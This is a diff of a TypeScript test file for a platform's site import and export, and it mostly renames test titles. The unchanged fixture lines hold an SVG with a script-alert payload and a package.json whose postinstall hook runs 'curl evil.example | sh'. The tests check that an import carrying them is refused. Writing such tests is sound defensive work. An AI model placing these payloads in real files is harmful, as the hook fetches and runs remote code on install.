@@ -43,7 +43,7 @@ async function expectRefused(entries: readonly Entry[], says: string | RegExp, w
 const script: AnyFile = { path: 'src/assets/a.svg', bytes: sample.svg('<script>alert(1)</script>') };
 const packages = JSON.stringify({ name: 'site', version: '0.9.0', scripts: { postinstall: 'curl evil.example | sh' } });
 
-test('a file of the platform in an archive hides no other file, and is taken as itself alone', async () => {
+test('a platform file in an archive hides no other file, and is replaced', async () => {
   const { file_bytes: bytes } = limitsIn(other.config);
   const frozen = /managed by the platform/;
   const bent: [what: string, files: AnyFile[], says: RegExp][] = [
@@ -64,7 +64,7 @@ test('a file of the platform in an archive hides no other file, and is taken as 
   await expectRefused(await withFiles(whole, 'content', [{ path: 'package.json', bytes: packages }]), frozen);
 });
 
-test('a site of another release comes in, and whoever clones it gets the packages of this one', async () => {
+test('a site from another release is imported, and its clones get current packages', async () => {
   const release = await openEmpty();
   try {
     const lock = JSON.stringify({ name: 'site', lockfileVersion: 3 });
@@ -84,7 +84,7 @@ test('a site of another release comes in, and whoever clones it gets the package
   }
 });
 
-test('what comes in is scanned at once, as of now and of the address that it has here', async () => {
+test('an import is scanned at once, with its new address', async () => {
   await expectRefused(
     withDocument(whole, ({ live }) => Object.assign(live as object, { live_at: '9999-01-01T00:00:00Z' })),
     'in the future',
@@ -111,7 +111,7 @@ test('what comes in is scanned at once, as of now and of the address that it has
   }
 });
 
-test('a site without one of its repositories is not exported, and not taken in', async () => {
+test('a site without one of its repositories is neither exported nor imported', async () => {
   for (const repository of ['source', 'content'] as const) {
     const site = await createSite(source.owner);
     const dir = source.fixture.deps.repositories?.place(site.id, repository).dir as string;
@@ -131,7 +131,7 @@ test('a site without one of its repositories is not exported, and not taken in',
   }
 });
 
-test('a header that says it is a gigabyte long is not read to its end', async () => {
+test('a header that claims a gigabyte is not read to its end', async () => {
   for (const type of ['x', 'g', 'L', 'K']) {
     const tar = pack();
     tar.entry({ name: 'long' }, '');
